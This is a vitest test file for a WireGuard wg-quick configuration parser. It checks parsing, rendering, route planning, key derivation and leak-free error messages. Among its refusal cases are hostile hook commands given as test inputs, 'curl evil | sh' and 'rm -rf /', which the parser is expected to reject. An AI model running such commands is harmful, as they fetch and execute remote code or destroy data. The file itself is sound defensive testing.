import { describe, expect, it } from 'vitest';
import {
  WG_CONFIG_MAX_BYTES,
  WG_DNS_MAX,
  WG_PEERS_MAX,
  WG_PREFIXES_MAX,
  WgConfigError,
  isWgKey,
  normaliseWgPrefix,
  parseWgQuick,
  planWgRoutes,
  renderWgQuick,
  renderWgSetconf,
  wgPublicView,
  wgRouteProblem,
  wgPublicKey,
  wgRoutesCover,
  type WgConfig,
} from './wireguard';

// Keys as `wg genkey` / `wg pubkey` print them (any 32 bytes in base64 will do for parsing).
const PRIV = 'yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=';
const PUB1 = 'xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=';
const PUB2 = 'TrMvSoP4jYQlY6RIzBgbssQqY3vxI2Pi+y71lOWWXX0=';
const PSK = 'FpCyhws9cxwWoV4xELtfJvjJN+zQVRPISllRWgeopVE=';

const LAN = ['192.168.8.23/24'];

const base = (extra = '', peer = ''): string =>
  `[Interface]\nPrivateKey = ${PRIV}\nAddress = 10.77.0.2/24\n${extra}\n[Peer]\nPublicKey = ${PUB1}\nAllowedIPs = 10.77.0.0/24\n${peer}`;

/** Every base64 run as long as a key (44 characters) in `text`. */
function keyLike(text: string): string[] {
  return text.match(/[A-Za-z0-9+/]{42,}={0,2}/g) ?? [];
}

function refusal(text: string): WgConfigError {
  let caught: unknown;
  try {
    parseWgQuick(text);
  } catch (e) {
    caught = e;
  }
  expect(caught, 'the configuration was accepted').toBeInstanceOf(WgConfigError);
  const err = caught as WgConfigError;
  // The message never carries key material from the input, nor a whole input line.
  for (const k of keyLike(text)) expect(err.message).not.toContain(k.slice(0, 20));
  for (const l of text.split(/\r?\n/))
    if (l.trim().length > 12 && !/^\[/.test(l.trim())) expect(err.message).not.toContain(l.trim());
  return err;
}

describe('parseWgQuick: what it accepts', () => {
  it('reads a full wg-quick configuration: case-insensitive keys, comments, CRLF, a BOM, lists over several lines', () => {
    const text =
      '\uFEFF# exported by the VPN provider\r\n' +
      '[interface]\r\n' +
      `privatekey = ${PRIV} # the device's\r\n` +
      'ADDRESS = 10.77.0.2/24\r\n' +
      'Address=FD00:0:0:0::2/64 , 10.77.1.2\r\n' +
      'ListenPort = 51820\r\n' +
      'MTU = 1420\r\n' +
      'DNS = 1.1.1.1, Example.COM\r\n' +
      '\r\n' +
      '[PEER]\r\n' +
      `PublicKey = ${PUB1}\r\n` +
      `PresharedKey = ${PSK}\r\n` +
      'AllowedIPs = 10.77.0.9/24\r\n' +
      'allowedips = fd00:0::/64, 10.77.0.0/24\r\n' +
      'Endpoint = vpn.Example.com:51820\r\n' +
      'PersistentKeepalive = 25\r\n' +
      '[Peer]\r\n' +
      `PublicKey = ${PUB2}\r\n` +
      'AllowedIPs = 10.78.0.0/16\r\n' +
      'Endpoint = [2001:DB8:0::1]:4500\r\n' +
      'PersistentKeepalive = off\r\n';
    expect(parseWgQuick(text)).toEqual<WgConfig>({
      interface: {
        privateKey: PRIV,
        addresses: ['10.77.0.2/24', 'fd00::2/64', '10.77.1.2/32'],
        listenPort: 51820,
        mtu: 1420,
        dns: ['1.1.1.1', 'example.com'],
      },
      peers: [
        {
          publicKey: PUB1,
          presharedKey: PSK,
          allowedIps: ['10.77.0.0/24', 'fd00::/64'],
          endpoint: { host: 'vpn.example.com', port: 51820 },
          persistentKeepalive: 25,
        },
        {
          publicKey: PUB2,
          presharedKey: null,
          allowedIps: ['10.78.0.0/16'],
          endpoint: { host: '2001:db8::1', port: 4500 },
          persistentKeepalive: null,
        },
      ],
    });
  });

  it('takes an IPv4 endpoint, a keepalive of 0 as off, an empty AllowedIPs and a peer without endpoint', () => {
    const cfg = parseWgQuick(
      `${base('', 'Endpoint = 203.0.113.7:51820\nPersistentKeepalive = 0')}\n[Peer]\nPublicKey = ${PUB2}\nAllowedIPs =\n`,
    );
    expect(cfg.peers[0]!.endpoint).toEqual({ host: '203.0.113.7', port: 51820 });
    expect(cfg.peers[0]!.persistentKeepalive).toBeNull();
    expect(cfg.peers[1]).toEqual({
      publicKey: PUB2,
      presharedKey: null,
      allowedIps: [],
      endpoint: null,
      persistentKeepalive: null,
    });
  });

  it('normalises IPv6 forms (compression, embedded IPv4) and keeps Address host bits', () => {
    const cfg = parseWgQuick(
      base(
        'Address = 2001:0db8:0000:0000:0001:0000:0000:0001/64, ::ffff:10.1.2.3/128',
        'AllowedIPs = 2001:db8:0:0:1::7/48, ::/0',
      ),
    );
    expect(cfg.interface.addresses).toEqual([
      '10.77.0.2/24',
      '2001:db8::1:0:0:1/64',
      '::ffff:a01:203/128',
    ]);
    expect(cfg.peers[0]!.allowedIps).toEqual(['10.77.0.0/24', '2001:db8::/48', '::/0']);
  });
});

describe('parseWgQuick: round trip and renderers', () => {
  const full =
    `[Interface]\nPrivateKey = ${PRIV}\nAddress = 10.77.0.2/24, fd00::2/64\nListenPort = 51820\nMTU = 1280\nDNS = 10.77.0.1, corp.example\n` +
    `[Peer]\nPublicKey = ${PUB1}\nPresharedKey = ${PSK}\nAllowedIPs = 0.0.0.0/0, ::/0\nEndpoint = [fd12::1]:51820\nPersistentKeepalive = 65535\n` +
    `[Peer]\nPublicKey = ${PUB2}\n`;

  it('parse(renderWgQuick(x)) deep-equals x', () => {
    const cfg = parseWgQuick(full);
    expect(parseWgQuick(renderWgQuick(cfg))).toEqual(cfg);
    const small = parseWgQuick(base());
    expect(parseWgQuick(renderWgQuick(small))).toEqual(small);
  });

  it('renderWgSetconf writes only the keys wg(8) accepts', () => {
    const text = renderWgSetconf(parseWgQuick(full));
    expect(text).toBe(
      `[Interface]\nPrivateKey = ${PRIV}\nListenPort = 51820\n\n` +
        `[Peer]\nPublicKey = ${PUB1}\nPresharedKey = ${PSK}\nAllowedIPs = 0.0.0.0/0, ::/0\nEndpoint = [fd12::1]:51820\nPersistentKeepalive = 65535\n\n` +
        `[Peer]\nPublicKey = ${PUB2}\n`,
    );
    expect(text).not.toMatch(/Address|DNS|MTU/);
  });

  it('wgPublicView has no private or preshared key', () => {
    const view = wgPublicView(parseWgQuick(full), PUB2);
    const json = JSON.stringify(view);
    expect(json).not.toContain(PRIV);
    expect(json).not.toContain(PSK);
    expect(view.peers[0]).toEqual({
      public_key: PUB1,
      has_preshared_key: true,
      allowed_ips: ['0.0.0.0/0', '::/0'],
      endpoint: '[fd12::1]:51820',
      persistent_keepalive: 65535,
    });
    expect(view).toMatchObject({
      public_key: PUB2,
      listen_port: 51820,
      mtu: 1280,
      dns: ['10.77.0.1', 'corp.example'],
    });
  });
});

describe('parseWgQuick: refusals (message, line, field; never a key)', () => {
  const cases: [string, string, number | null, string | null, RegExp][] = [
    [
      'PostUp',
      base('PostUp = iptables -A FORWARD -j ACCEPT'),
      4,
      'PostUp',
      /PostUp is not accepted: the device never runs commands/,
    ],
    ['PreUp lower-case', base('preup = curl evil | sh'), 4, 'preup', /never runs commands/],
    ['PreDown', base('PreDown = rm -rf /'), 4, 'PreDown', /never runs commands/],
    ['PostDown in a peer', base('', 'PostDown = x'), 8, 'PostDown', /never runs commands/],
    ['SaveConfig', base('SaveConfig = true'), 4, 'SaveConfig', /never rewrites/],
    [
      'Table',
      base('Table = off'),
      4,
      'Table',
      /routes itself so its local network stays reachable/,
    ],
    ['FwMark', base('FwMark = 51820'), 4, 'FwMark', /routes itself/],
    ['an unknown key', base('Foo = 1'), 4, 'Foo', /unknown key Foo in \[Interface\]/],
    [
      'a peer key in [Interface]',
      base('Endpoint = a.example:1'),
      4,
      'Endpoint',
      /Endpoint belongs in a \[Peer\] section/,
    ],
    [
      'an interface key in [Peer]',
      base('', 'ListenPort = 1'),
      8,
      'ListenPort',
      /ListenPort belongs in the \[Interface\] section/,
    ],
    [
      'a key outside a section',
      `ListenPort = 1\n${base()}`,
      1,
      'ListenPort',
      /before any \[Interface\] or \[Peer\]/,
    ],
    ['an unknown section', `${base()}\n[Peers]\n`, 9, null, /unknown section \[Peers\]/],
    ['a broken section header', `${base()}\n[Peer\n`, 9, null, /not a section header/],
    ['a line without =', base('just words'), 4, null, /is not `Key = value`/],
    ['a pasted key alone', base(PSK), 4, null, /an unknown key$/],
    [
      'two [Interface]',
      `${base()}\n[Interface]\nPrivateKey = ${PRIV}\n`,
      9,
      null,
      /a second \[Interface\] section \(the first is on line 1\)/,
    ],
    ['no [Interface]', `[Peer]\nPublicKey = ${PUB1}\n`, null, null, /no \[Interface\] section/],
    [
      'no peer',
      `[Interface]\nPrivateKey = ${PRIV}\n`,
      null,
      null,
      /no \[Peer\] section: the tunnel needs at least one peer/,
    ],
    [
      'no PrivateKey',
      `[Interface]\nAddress = 10.0.0.1/24\n[Peer]\nPublicKey = ${PUB1}\n`,
      1,
      'PrivateKey',
      /no PrivateKey/,
    ],
    [
      'a peer without PublicKey',
      `${base()}\n[Peer]\nAllowedIPs = 10.1.0.0/16\n`,
      9,
      'PublicKey',
      /has no PublicKey/,
    ],
    [
      'duplicate peers',
      `${base()}\n[Peer]\nPublicKey = ${PUB1}\n`,
      10,
      'PublicKey',
      /same as the peer's on line 6/,
    ],
    [
      'a key twice',
      base(`PrivateKey = ${PRIV}`),
      4,
      'PrivateKey',
      /PrivateKey is given twice in this section \(first on line 2\)/,
    ],
    ['ListenPort twice', base('ListenPort = 1\nListenPort = 2'), 5, 'ListenPort', /given twice/],
    ['an empty value', base('MTU ='), 4, 'MTU', /MTU has no value/],
    [
      'a short PrivateKey',
      base().replace(PRIV, PRIV.slice(1)),
      2,
      'PrivateKey',
      /PrivateKey must be a WireGuard key: base64 of 32 bytes/,
    ],
    [
      'a long PublicKey',
      base().replace(PUB1, `A${PUB1}`),
      6,
      'PublicKey',
      /PublicKey must be a WireGuard key/,
    ],
    [
      'a key with a bad character',
      base().replace(PRIV, PRIV.replace('+', '-')),
      2,
      'PrivateKey',
      /must be a WireGuard key/,
    ],
    [
      'a key with spare bits set',
      base().replace(PUB1, PUB1.replace('Dg=', 'Dh=')),
      6,
      'PublicKey',
      /must be a WireGuard key/,
    ],
    [
      'an all-zero key',
      base().replace(PRIV, `${'A'.repeat(43)}=`),
      2,
      'PrivateKey',
      /must be a WireGuard key/,
    ],
    ['a hex key', base().replace(PRIV, 'a'.repeat(64)), 2, 'PrivateKey', /must be a WireGuard key/],
    [
      'a bad PresharedKey',
      base('', `PresharedKey = ${PSK.slice(0, 40)}`),
      8,
      'PresharedKey',
      /PresharedKey must be a WireGuard key/,
    ],
    [
      'ListenPort 0',
      base('ListenPort = 0'),
      4,
      'ListenPort',
      /ListenPort must be a port number from 1 to 65535/,
    ],
    ['ListenPort 65536', base('ListenPort = 65536'), 4, 'ListenPort', /1 to 65535/],
    ['ListenPort -1', base('ListenPort = -1'), 4, 'ListenPort', /1 to 65535/],
    ['ListenPort 0x50', base('ListenPort = 0x50'), 4, 'ListenPort', /1 to 65535/],
    [
      'MTU 1279',
      base('MTU = 1279'),
      4,
      'MTU',
      /MTU must be from 1280 \(the IPv6 minimum\) to 9000/,
    ],
    ['MTU 9001', base('MTU = 9001'), 4, 'MTU', /1280 \(the IPv6 minimum\) to 9000/],
    [
      'keepalive 65536',
      base('', 'PersistentKeepalive = 65536'),
      8,
      'PersistentKeepalive',
      /off or seconds from 1 to 65535/,
    ],
    [
      'keepalive -5',
      base('', 'PersistentKeepalive = -5'),
      8,
      'PersistentKeepalive',
      /off or seconds/,
    ],
    [
      'keepalive words',
      base('', 'PersistentKeepalive = sometimes'),
      8,
      'PersistentKeepalive',
      /off or seconds/,
    ],
    [
      'an AllowedIP with a bad prefix length',
      base('', 'AllowedIPs = 10.0.0.0/33'),
      8,
      'AllowedIPs',
      /AllowedIPs entry 1 is not an IPv4 or IPv6 prefix/,
    ],
    [
      'an AllowedIP with a bad octet',
      base('', 'AllowedIPs = 10.0.0.0/8, 10.256.0.0/16'),
      8,
      'AllowedIPs',
      /AllowedIPs entry 2 is not/,
    ],
    [
      'an AllowedIP with leading zeros',
      base('', 'AllowedIPs = 010.0.0.0/8'),
      8,
      'AllowedIPs',
      /entry 1 is not/,
    ],
    [
      'an IPv6 AllowedIP /129',
      base('', 'AllowedIPs = fd00::/129'),
      8,
      'AllowedIPs',
      /entry 1 is not/,
    ],
    [
      'an IPv6 AllowedIP with :::',
      base('', 'AllowedIPs = fd00:::1/64'),
      8,
      'AllowedIPs',
      /entry 1 is not/,
    ],
    [
      'an IPv6 AllowedIP with nine groups',
      base('', 'AllowedIPs = 1:2:3:4:5:6:7:8:9/64'),
      8,
      'AllowedIPs',
      /entry 1 is not/,
    ],
    [
      'an AllowedIP that is a name',
      base('', 'AllowedIPs = lan.example/24'),
      8,
      'AllowedIPs',
      /entry 1 is not/,
    ],
    [
      'an AllowedIP given to two peers',
      `${base()}\n[Peer]\nPublicKey = ${PUB2}\nAllowedIPs = 10.77.0.5/24\n`,
      11,
      'AllowedIPs',
      /AllowedIPs 10\.77\.0\.0\/24 is also given to the peer on line 7/,
    ],
    [
      'a bad Address',
      base('Address = 10.0.0.300/24'),
      4,
      'Address',
      /Address entry 1 is not an IPv4 or IPv6 address/,
    ],
    [
      'an Address /0',
      base('Address = 10.0.0.1/0'),
      4,
      'Address',
      /prefix \/0: it would take every route/,
    ],
    [
      'a bad DNS',
      base('DNS = 1.1.1.1, -bad-'),
      4,
      'DNS',
      /DNS entry 2 is neither an IP address nor a search domain/,
    ],
    [
      'an endpoint without port',
      base('', 'Endpoint = vpn.example.com'),
      8,
      'Endpoint',
      /Endpoint has no port/,
    ],
    [
      'an endpoint port 0',
      base('', 'Endpoint = vpn.example.com:0'),
      8,
      'Endpoint',
      /port must be from 1 to 65535/,
    ],
    [
      'an endpoint port 70000',
      base('', 'Endpoint = [fd00::1]:70000'),
      8,
      'Endpoint',
      /port must be from 1 to 65535/,
    ],
    [
      'a bare IPv6 endpoint',
      base('', 'Endpoint = fd00::1:51820'),
      8,
      'Endpoint',
      /IPv6 address is written in brackets/,
    ],
    [
      'brackets around IPv4',
      base('', 'Endpoint = [10.0.0.1]:51820'),
      8,
      'Endpoint',
      /no IPv6 address in them/,
    ],
    [
      'a bad IPv4 endpoint',
      base('', 'Endpoint = 10.0.0.256:51820'),
      8,
      'Endpoint',
      /not a valid IPv4 address/,
    ],
    [
      'an endpoint with a URL',
      base('', 'Endpoint = http//vpn.example.com:51820'),
      8,
      'Endpoint',
      /neither an IP address nor a DNS name/,
    ],
    [
      'an endpoint with a space',
      base('', 'Endpoint = vpn example:51820'),
      8,
      'Endpoint',
      /neither an IP address nor a DNS name/,
    ],
    ['a NUL byte', base('ListenPort = 5\u00001'), 4, null, /contains a control character/],
    ['an escape sequence', base('\u001b[31m'), 4, null, /control character/],
    ['a lone CR inside a line', base('MTU = 1420\rListenPort = 1'), 4, null, /control character/],
    ['a C1 control', base('MTU = 1420\u0085'), 4, null, /control character/],
  ];

  it.each(cases)('%s', (_name, text, line, field, message) => {
    const err = refusal(text);
    expect(err.message).toMatch(message);
    expect(err.line).toBe(line);
    expect(err.field).toBe(field);
    if (line !== null) expect(err.message.startsWith(`line ${line}: `)).toBe(true);
  });

  it('names an unknown key only when it is a short word: digits, dashes or length make it possibly a secret', () => {
    for (const name of ['tskey-auth-abc', 'abc123', 'A'.repeat(21), 'Private_Key'])
      expect(refusal(base(`${name} = 1`)).message).toBe('line 4: an unknown key');
    expect(refusal(base(`${'A'.repeat(21)} = 1`)).field).toBeNull();
    expect(refusal(base('Fwmarks = 1')).message).toBe('line 4: unknown key Fwmarks in [Interface]');
  });

  it('never echoes a mistyped key, wherever it is written', () => {
    const typo = `${PRIV.slice(0, 30)}!${PRIV.slice(31)}`;
    for (const text of [
      base().replace(PRIV, typo),
      base().replace(PRIV, `${PRIV}x`),
      base().replace(`PrivateKey = ${PRIV}`, `${PRIV} = PrivateKey`),
      base().replace(`PrivateKey = ${PRIV}`, `PrivateKey: ${PRIV}`),
      base().replace(`PrivateKey = ${PRIV}`, `[${PRIV}]`),
      base('', `PresharedKey = ${PSK.toLowerCase()}`),
    ]) {
      const err = refusal(text);
      expect(err.message).not.toContain(PRIV.slice(0, 12));
      expect(err.message).not.toContain(PSK.toLowerCase().slice(0, 12));
      expect(String(err.field)).not.toContain(PRIV.slice(0, 12));
    }
  });
});

/** UTF-8 length without TextEncoder (not in this package's lib: it runs in the browser and node alike). */
const utf8Bytes = (s: string): number => encodeURIComponent(s).replace(/%[0-9A-F]{2}/g, 'x').length;

describe('parseWgQuick: limits', () => {
  const pad = (text: string, bytes: number): string => {
    const filler = bytes - utf8Bytes(text) - 2;
    return `${text}\n#${'x'.repeat(filler)}`;
  };

  it(`accepts exactly ${WG_CONFIG_MAX_BYTES} bytes and refuses one more (counted in UTF-8)`, () => {
    const exact = pad(base(), WG_CONFIG_MAX_BYTES);
    expect(utf8Bytes(exact)).toBe(WG_CONFIG_MAX_BYTES);
    expect(() => parseWgQuick(exact)).not.toThrow();
    const err = refusal(`${exact}\n`);
    expect(err.message).toBe(
      `the configuration is ${WG_CONFIG_MAX_BYTES + 1} bytes; at most ${WG_CONFIG_MAX_BYTES} are accepted`,
    );
    // Multi-byte characters count as their UTF-8 bytes, not as UTF-16 units.
    const wide = `${base()}\n#${'€'.repeat(Math.ceil(WG_CONFIG_MAX_BYTES / 3))}`;
    expect(wide.length).toBeLessThan(WG_CONFIG_MAX_BYTES);
    expect(refusal(wide).message).toMatch(/at most 65536 are accepted/);
  });

  const peers = (n: number): string => {
    let text = `[Interface]\nPrivateKey = ${PRIV}\n`;
    for (let i = 0; i < n; i++) {
      const key = `${i.toString(36).padStart(2, '0')}${PUB1.slice(2)}`;
      text += `[Peer]\nPublicKey = ${key}\nAllowedIPs = 10.${i}.0.0/16\n`;
    }
    return text;
  };

  it(`accepts ${WG_PEERS_MAX} peers and refuses ${WG_PEERS_MAX + 1}`, () => {
    expect(parseWgQuick(peers(WG_PEERS_MAX)).peers).toHaveLength(WG_PEERS_MAX);
    const err = refusal(peers(WG_PEERS_MAX + 1));
    expect(err.message).toBe(
      `line ${3 + WG_PEERS_MAX * 3}: more than ${WG_PEERS_MAX} peers (the device's limit)`,
    );
    expect(err.line).toBe(3 + WG_PEERS_MAX * 3);
  });

  it(`refuses more than ${WG_DNS_MAX} DNS entries`, () => {
    const dns = (n: number): string =>
      Array.from({ length: n }, (_, i) => `10.0.0.${i + 1}`).join(', ');
    expect(parseWgQuick(base(`DNS = ${dns(WG_DNS_MAX)}`)).interface.dns).toHaveLength(WG_DNS_MAX);
    const err = refusal(base(`DNS = ${dns(WG_DNS_MAX)}\nDNS = corp.example`));
    expect(err.message).toBe(`line 5: more than ${WG_DNS_MAX} DNS servers and search domains`);
  });

  it(`refuses more than ${WG_PREFIXES_MAX} addresses and allowed IPs together`, () => {
    const list = (n: number, from = 0): string =>
      Array.from(
        { length: n },
        (_, i) => `10.${Math.floor((i + from) / 256)}.${(i + from) % 256}.0/24`,
      ).join(', ');
    const ok = base(`Address = ${list(WG_PREFIXES_MAX - 2, 1000)}`);
    expect(() => parseWgQuick(ok)).not.toThrow();
    const err = refusal(base(`Address = ${list(WG_PREFIXES_MAX - 1, 1000)}`));
    expect(err.message).toMatch(/line 7: more than 256 addresses and allowed IPs in all/);
    expect(err.field).toBe('AllowedIPs');
  });
});

describe('parseWgQuick: hostile input', () => {
  // A small seeded generator so a failure can be replayed.
  function rng(seed: number): () => number {
    let s = seed >>> 0;
    return () => {
      s = (s * 1664525 + 1013904223) >>> 0;
      return s / 2 ** 32;
    };
  }
  const valid = `${base('ListenPort = 51820\nDNS = 1.1.1.1', `PresharedKey = ${PSK}\nEndpoint = [fd00::1]:51820\nPersistentKeepalive = 25`)}\n[Peer]\nPublicKey = ${PUB2}\nAllowedIPs = ::/0\n`;

  function check(text: string): void {
    try {
      const cfg = parseWgQuick(text);
      expect(parseWgQuick(renderWgQuick(cfg))).toEqual(cfg);
    } catch (e) {
      if (!(e instanceof WgConfigError)) throw e;
      for (const k of [PRIV, PSK]) expect(e.message).not.toContain(k.slice(5, 25));
      for (const k of keyLike(text)) expect(e.message).not.toContain(k.slice(0, 24));
    }
  }

  it('random bytes and characters never throw anything but WgConfigError', () => {
    const r = rng(27);
    for (let n = 0; n < 400; n++) {
      const len = Math.floor(r() * 300);
      let s = '';
      for (let i = 0; i < len; i++) {
        const pick = r();
        s +=
          pick < 0.6
            ? '[]=#,:/.\n \t\r0123456789abcdefABCDEFxyz+'.charAt(Math.floor(r() * 41))
            : String.fromCharCode(Math.floor(r() * (pick < 0.9 ? 0x80 : 0xffff)));
      }
      check(s);
    }
  });

  it('mutations of a valid configuration (replace, insert, delete, duplicate lines) never throw anything but WgConfigError and never leak a key', () => {
    const r = rng(4242);
    const alphabet = '[]=#,:/.\n \r\t\u0000\u00ff\u2028\ud800~-+0123456789abcdefxyzAZ';
    for (let n = 0; n < 1500; n++) {
      let s = valid;
      const edits = 1 + Math.floor(r() * 4);
      for (let e = 0; e < edits; e++) {
        const at = Math.floor(r() * s.length);
        const op = r();
        const ch = alphabet.charAt(Math.floor(r() * alphabet.length));
        if (op < 0.4) s = s.slice(0, at) + ch + s.slice(at + 1);
        else if (op < 0.7) s = s.slice(0, at) + ch + s.slice(at);
        else if (op < 0.9) s = s.slice(0, at) + s.slice(at + 1 + Math.floor(r() * 10));
        else {
          const lines = s.split('\n');
          const i = Math.floor(r() * lines.length);
          lines.splice(i, 0, lines[i] ?? '');
          s = lines.join('\n');
        }
      }
      check(s);
    }
  });

  it('refuses a non-string with a WgConfigError', () => {
    expect(() => parseWgQuick(42 as unknown as string)).toThrow(WgConfigError);
  });
});

describe('keys and prefixes', () => {
  it('isWgKey', () => {
    expect(isWgKey(PRIV)).toBe(true);
    expect(isWgKey(PUB1.slice(0, 43))).toBe(false);
    expect(isWgKey(`${'A'.repeat(43)}=`)).toBe(false);
    expect(isWgKey(`${'A'.repeat(42)}E=`)).toBe(true);
    expect(isWgKey(`${'A'.repeat(42)}B=`)).toBe(false);
  });

  it.each([
    ['10.0.0.7/24', '10.0.0.0/24'],
    ['10.0.0.7', '10.0.0.7/32'],
    ['0.0.0.0/0', '0.0.0.0/0'],
    ['FD00:0:0:0:0:0:0:1/64', 'fd00::/64'],
    ['::', '::/128'],
    ['1::', '1::/128'],
    ['2001:db8:0:1:0:0:0:0/64', '2001:db8:0:1::/64'],
    ['1:0:0:1:0:0:0:1', '1:0:0:1::1/128'],
    ['1:0:0:1:0:0:1:1', '1::1:0:0:1:1/128'],
    ['::ffff:192.0.2.1/96', '::ffff:0.0.0.0/96'.replace('0.0.0.0', '0:0')],
    ['10.0.0.0/33', null],
    ['10.0.0/8', null],
    ['::1.2.3', null],
    [':1::', null],
    ['1:::2', null],
    ['1.2.3.4::', null],
    ['fd00::/064', null],
    ['', null],
  ])('normaliseWgPrefix(%j) = %j', (text, want) => {
    expect(normaliseWgPrefix(text)).toBe(want);
  });

  it('wgRoutesCover', () => {
    expect(wgRoutesCover(['0.0.0.0/1', '128.0.0.0/1'], '203.0.113.7')).toBe(true);
    expect(wgRoutesCover(['10.0.0.0/8'], '11.0.0.1')).toBe(false);
    expect(wgRoutesCover(['8000::/1'], 'fd00::1')).toBe(true);
    expect(wgRoutesCover(['::/1'], 'fd00::1')).toBe(false);
    expect(wgRoutesCover(['10.0.0.0/8'], 'not an ip')).toBe(false);
  });
});

describe('planWgRoutes / wgRouteProblem: the local network stays', () => {
  const cfg = (allowed: string, endpoint = '', address = '10.77.0.2/24'): WgConfig =>
    parseWgQuick(
      `[Interface]\nPrivateKey = ${PRIV}\nAddress = ${address}\n[Peer]\nPublicKey = ${PUB1}\nAllowedIPs = ${allowed}\n${endpoint ? `Endpoint = ${endpoint}\n` : ''}`,
    );

  it.each([
    [
      'the local subnet itself',
      '192.168.8.0/24',
      "AllowedIPs 192.168.8.0/24 overlaps the device's local network 192.168.8.0/24: the console would be cut off locally",
    ],
    [
      'a prefix inside it',
      '10.1.0.0/16, 192.168.8.128/25',
      "AllowedIPs 192.168.8.128/25 overlaps the device's local network 192.168.8.0/24: the console would be cut off locally",
    ],
    ['a host on the LAN', '192.168.8.1/32', 'AllowedIPs 192.168.8.1/32 overlaps'],
    [
      'a link-local IPv6 prefix',
      'fe80::/64',
      "AllowedIPs fe80::/64 overlaps the device's local network fe80::/64",
    ],
  ])('refuses %s', (_n, allowed, message) => {
    const c = cfg(allowed);
    const locals = [...LAN, 'fe80::1234/64'];
    expect(wgRouteProblem(c, locals)?.message).toContain(message);
    expect(wgRouteProblem(c, locals)?.field).toBe('AllowedIPs');
    expect(() => planWgRoutes(c, locals)).toThrow(WgConfigError);
  });

  it('refuses an Address whose network is the local one', () => {
    const c = cfg('10.0.0.0/8', '', '192.168.8.200/24');
    expect(wgRouteProblem(c, LAN)?.message).toBe(
      "Address 192.168.8.200/24 overlaps the device's local network 192.168.8.0/24: the console would be cut off locally",
    );
  });

  it('takes a wider prefix that contains the LAN (the local route is longer and wins)', () => {
    const c = cfg('192.168.0.0/16');
    expect(wgRouteProblem(c, LAN)).toBeNull();
    expect(planWgRoutes(c, LAN).routes).toEqual(['192.168.0.0/16']);
  });

  it('splits default routes into halves and asks for host routes to endpoints the halves swallow', () => {
    const c = parseWgQuick(
      `[Interface]\nPrivateKey = ${PRIV}\n` +
        `[Peer]\nPublicKey = ${PUB1}\nAllowedIPs = 0.0.0.0/0, ::/0, 10.9.0.0/16\nEndpoint = 203.0.113.7:51820\n` +
        `[Peer]\nPublicKey = ${PUB2}\nAllowedIPs = 10.10.0.0/16\nEndpoint = 192.168.8.50:51820\n` +
        `[Peer]\nPublicKey = ${PSK}\nAllowedIPs = 10.11.0.0/16\nEndpoint = [2001:db8::9]:51820\n` +
        `[Peer]\nPublicKey = ${PUB1.replace('x', 'y')}\nAllowedIPs = 10.12.0.0/16\nEndpoint = VPN.example.com:51820\n`,
    );
    expect(planWgRoutes(c, LAN)).toEqual({
      routes: [
        '0.0.0.0/1',
        '128.0.0.0/1',
        '::/1',
        '8000::/1',
        '10.9.0.0/16',
        '10.10.0.0/16',
        '10.11.0.0/16',
        '10.12.0.0/16',
      ],
      splitDefault4: true,
      splitDefault6: true,
      // 192.168.8.50 is on the LAN (its connected route wins); 2001:db8::9 falls in ::/1.
      endpointsNeedingHostRoute: ['203.0.113.7', '2001:db8::9'],
      endpointNames: ['vpn.example.com'],
    });
    expect(planWgRoutes(c, LAN).routes).not.toContain('0.0.0.0/0');
  });

  it('no default route: no split, and only endpoints inside a tunnel prefix need a host route', () => {
    const c = cfg('10.0.0.0/8', '10.1.2.3:51820');
    expect(planWgRoutes(c, LAN)).toEqual({
      routes: ['10.0.0.0/8'],
      splitDefault4: false,
      splitDefault6: false,
      endpointsNeedingHostRoute: ['10.1.2.3'],
      endpointNames: [],
    });
    expect(
      planWgRoutes(cfg('10.0.0.0/8', '198.51.100.1:51820'), LAN).endpointsNeedingHostRoute,
    ).toEqual([]);
  });

  it('a programming error in the local prefixes is a TypeError, not a configuration error', () => {
    expect(() => planWgRoutes(cfg('10.0.0.0/8'), ['lan0'])).toThrow(TypeError);
  });
});

describe('wgPublicKey (X25519)', () => {
  it.each([
    // RFC 7748 section 6.1, Alice and Bob.
    [
      'dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=',
      'hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmo=',
    ],
    [
      'XasIfmJKikt54X+Lg4AO5m87sSkmGLb9HC+LJ/+I4Os=',
      '3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08=',
    ],
    // `wg genkey` / `wg pubkey` (wireguard-tools 1.0.20210914, Debian), recorded here.
    [PRIV, 'HIgo9xNzJMWLKASShiTqIybxZ0U3wGLiUeJ1PKf8ykw='],
    [
      'OCksKRyO2fznWDS90l0c+oKNWWvWrq91UWA6O/Zg2ko=',
      'jpVTcqN2CwafxCex1Re+1j6w5p/DZugKAQhnMjQx5CM=',
    ],
    [
      'CEk21as65tc0wYu+kCybG8Xmo+qZuVdtMXNiORPxHU4=',
      'Lm3nqHJavwOJWt8eCgpJfMuqicJ83UhJoEmn0Mr3tyg=',
    ],
    [
      'yNwh3ZIDHb2JJcD5mY4Lc0lLUYuPaP0YQtecG9Lmfnk=',
      'u/V2er8MG5JJzYcHX3EpI7gt43bCur0oZYvgSSO5CCE=',
    ],
  ])('%s -> %s', (priv, pub) => {
    expect(wgPublicKey(priv)).toBe(pub);
  });

  it('is null for what is not a key', () => {
    expect(wgPublicKey('nope')).toBeNull();
    expect(wgPublicKey(`${'A'.repeat(43)}=`)).toBeNull();
  });

  it("a peer with the device's own public key is refused at its PublicKey line, without the key", () => {
    const err = refusal(
      `[Interface]\nPrivateKey = ${PRIV}\n[Peer]\nPublicKey = ${PUB1}\n[Peer]\nAllowedIPs = 10.1.0.0/16\nPublicKey = HIgo9xNzJMWLKASShiTqIybxZ0U3wGLiUeJ1PKf8ykw=\n`,
    );
    expect(err.message).toBe(
      "line 7: this peer's PublicKey is the device's own (the one its PrivateKey gives): the [Peer] sections name the other ends",
    );
    expect(err.field).toBe('PublicKey');
    expect(err.message).not.toContain('HIgo9xNz');
  });
});
